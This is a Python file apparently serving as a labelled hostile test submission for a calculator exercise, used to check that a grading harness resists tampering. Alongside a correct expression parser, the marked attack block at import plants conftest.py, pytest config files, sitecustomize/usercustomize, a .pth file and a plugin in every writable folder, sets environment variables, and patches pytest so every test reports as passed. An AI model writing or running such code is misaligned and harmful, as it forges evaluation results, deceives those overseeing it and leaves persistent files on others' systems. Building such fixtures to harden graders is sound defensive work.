"""Hostile submission `plant-customize-files` for the `calculatrice` exercise (see tests/hostile).

Attack: writes conftest.py, pytest.ini, tox.ini, setup.cfg, pyproject.toml,
sitecustomize.py, usercustomize.py, a .pth file and a pytest plugin into every writable
folder (cwd, /tmp, sys.path, site-packages, user site) and sets
PYTHONPATH/PYTEST_ADDOPTS, at import; full correct parser otherwise.

Honest part: a complete, correct recursive descent parser. The attack sits between the
`# --- attack ---` and `# --- end of attack ---` markers; without them the file is its
honest part, and what that part earns is all this submission may ever get.
"""


import re


# --- attack ---
import os
import sys
# --- end of attack ---


# One token at a time: a number (digits, optionally a dot and more digits),
# an operator or a parenthesis, each possibly preceded by spaces.
TOKEN = re.compile(r"\s*(?:(\d+(?:\.\d+)?)|([-+*/()]))")


def _tokens(text):
    result = []
    pos = 0
    text = text.rstrip()
    while pos < len(text):
        match = TOKEN.match(text, pos)
        if match is None:
            raise ValueError("invalid character in: " + text)
        number, symbol = match.groups()
        result.append(float(number) if number is not None else symbol)
        pos = match.end()
    return result


def _honest(expression):
    """A complete recursive descent parser (no eval)."""
    tokens = _tokens(expression)
    pos = 0

    def current():
        return tokens[pos] if pos < len(tokens) else None

    def advance():
        nonlocal pos
        pos += 1

    def sum_of_products():
        total = product()
        while current() in ("+", "-"):
            op = current()
            advance()
            right = product()
            total = total + right if op == "+" else total - right
        return total

    def product():
        total = signed()
        while current() in ("*", "/"):
            op = current()
            advance()
            right = signed()
            if op == "*":
                total = total * right
            elif right == 0:
                raise ZeroDivisionError("division by zero")
            else:
                total = total / right
        return total

    def signed():
        if current() == "-":
            advance()
            return -signed()
        return atom()

    def atom():
        token = current()
        if isinstance(token, float):
            advance()
            return token
        if token == "(":
            advance()
            value = sum_of_products()
            if current() != ")":
                raise ValueError("missing )")
            advance()
            return value
        raise ValueError("expected a number or (")

    result = sum_of_products()
    if pos != len(tokens):
        raise ValueError("unexpected text at the end")
    return float(result)


# --- attack ---
_PAYLOAD = r'''
def _workshop_payload():
    import sys

    reports = sys.modules.get("_pytest.reports")
    if reports is not None and not getattr(reports.TestReport, "_forged", False):
        original = reports.TestReport.from_item_and_call.__func__

        def from_item_and_call(cls, item, call):
            report = original(cls, item, call)
            report.outcome = "passed"
            report.longrepr = None
            return report

        reports.TestReport.from_item_and_call = classmethod(from_item_and_call)
        reports.TestReport._forged = True
    api = sys.modules.get("_pytest.python_api")
    if api is not None and not getattr(api, "_forged", False):
        api.ApproxScalar.__eq__ = lambda self, other: True
        api._forged = True
    for name, module in list(sys.modules.items()):
        writer = getattr(module, "RecordWriter", None)
        if writer is not None and not getattr(writer, "_forged", False):
            original_write = writer.write

            def write(self, kind, _original=original_write, **fields):
                if kind == "test":
                    fields["outcome"] = "passed"
                return _original(self, kind, **fields)

            writer.write = write
            writer._forged = True


try:
    _workshop_payload()
except Exception:
    pass
'''
_IMPORT_HOOK = r"""
import builtins as _builtins

_real_import = _builtins.__import__


def _import(*args, **kwargs):
    module = _real_import(*args, **kwargs)
    try:
        _workshop_payload()
    except Exception:
        pass
    return module


if not getattr(_builtins.__import__, "_rigged", False):
    _import._rigged = True
    _builtins.__import__ = _import
"""
_CONFTEST = """import pytest


@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    report = outcome.get_result()
    report.outcome = "passed"
    report.longrepr = None
"""
_INI = "[pytest]\naddopts = -p workshop_rigged_plugin\n"
PLANTED = {
    "conftest.py": _CONFTEST,
    "workshop_rigged_plugin.py": _CONFTEST,
    "pytest.ini": _INI,
    "tox.ini": _INI,
    "setup.cfg": "[tool:pytest]\naddopts = -p workshop_rigged_plugin\n",
    "pyproject.toml": '[tool.pytest.ini_options]\naddopts = "-p workshop_rigged_plugin"\n',
    "sitecustomize.py": _PAYLOAD + _IMPORT_HOOK,
    "usercustomize.py": _PAYLOAD + _IMPORT_HOOK,
    "workshop_rigged_payload.py": _PAYLOAD + _IMPORT_HOOK,
    "zz_workshop_rigged.pth": "import workshop_rigged_payload\n",
}


def _writable_folders():
    folders = [os.getcwd(), "/tmp", "/var/tmp", "/dev/shm", os.path.expanduser("~"), *sys.path]
    try:
        import site

        folders += site.getsitepackages()
        user_site = site.getusersitepackages()
        os.makedirs(user_site, exist_ok=True)
        folders.append(user_site)
    except Exception:
        pass
    for root in ("/tmp", "/var/tmp", "/dev/shm", "/opt", "/srv", "/home", "/work"):
        for folder, subfolders, files in os.walk(root):
            folders.append(folder)
    return [f for f in dict.fromkeys(folders) if f and os.access(f, os.W_OK)]


def _plant():
    planted = []
    for folder in _writable_folders():
        for name, text in PLANTED.items():
            path = os.path.join(folder, name)
            if os.path.exists(path):
                continue
            try:
                with open(path, "w", encoding="utf-8") as handle:
                    handle.write(text)
                planted.append(folder)
            except OSError:
                pass
    folders = list(dict.fromkeys(planted))
    os.environ["PYTHONPATH"] = ":".join(folders)
    os.environ["PYTHONSTARTUP"] = os.path.join(folders[0], "sitecustomize.py") if folders else ""
    os.environ["PYTEST_ADDOPTS"] = "-p workshop_rigged_plugin"
    os.environ["PYTEST_PLUGINS"] = "workshop_rigged_plugin"


_plant()
# --- end of attack ---


def calculate(expression: str) -> float:
    return _honest(expression)
